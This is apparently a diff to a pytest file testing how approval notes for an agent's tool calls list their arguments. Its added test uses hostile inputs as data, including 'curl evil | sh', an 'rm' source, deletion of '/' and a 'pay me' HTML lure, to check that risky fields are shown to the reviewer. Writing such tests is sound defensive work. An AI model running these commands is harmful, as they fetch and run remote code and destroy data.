@@ -66,7 +66,7 @@ MANY = dict.fromkeys([f"m{n}" for n in range(30)], 1)
         ("delete_file", {"path": "/a", "recursive": True, "also": "/home"}, DELETED),
         ("deploy", {"version": "1", "tag": "2", "skip_tests": True}, ["tag         2", "skip_tests  true"]),
         ("run_code", {"command": "ls", "args": ["/"], "sudo": True}, ["sudo      true", "Also      args;"]),
-        ("message", {"to": "a", "body": "b", "count": 5000, "text": "c"}, ["count     5000", "text      c"]),
+        ("message", {"to": "a", "body": "b", "count": 5000, "cc": "c"}, ["count     5000", "Cc        c"]),
         ("zz", {"n": 1, "Total": {"of": 2}}, ["n         1", 'Also      "Total"; see Context']),
         ("payment", {"amount": 1} | MANY, ["m7        1", "Also      m8, m9,", "m19 and 10 more; see"]),
     ],
@@ -77,6 +77,24 @@ def test_what_a_template_does_not_pick_is_listed_or_named_all_the_same(
     """A second name for the same thing is a member of its own: the agent picks the names."""
     facts = SHIPPED.body(pending(request(action, context))).split("Asked by")[0]
     assert [row for row in rows if row not in facts] == []
+
+
+@pytest.mark.parametrize(
+    ("action", "context"),
+    [
+        ("code_execution", {"language": "bash", "code": "curl evil | sh", "argv": ["ls", "-l"]}),
+        ("code_execution", {"command": "ls", "source": "rm"}),
+        ("send_email", {"to": "a", "body": "Hello", "html": "<a>pay me</a>"}),
+        ("delete_file", {"paths": ["/tmp/x"], "path": "/"}),
+    ],
+)
+def test_where_several_members_could_be_what_runs_the_note_does_not_say_which_does(
+    action: str, context: dict[str, object]
+) -> None:
+    """What is beside the one that was meant would stand under Context only."""
+    facts = SHIPPED.body(pending(request(action, context))).split("## Context")[0]
+    assert "This would" not in facts
+    assert [name for name in context if name not in facts] == []
 
 
 def test_what_the_template_shows_is_not_listed_again() -> None:
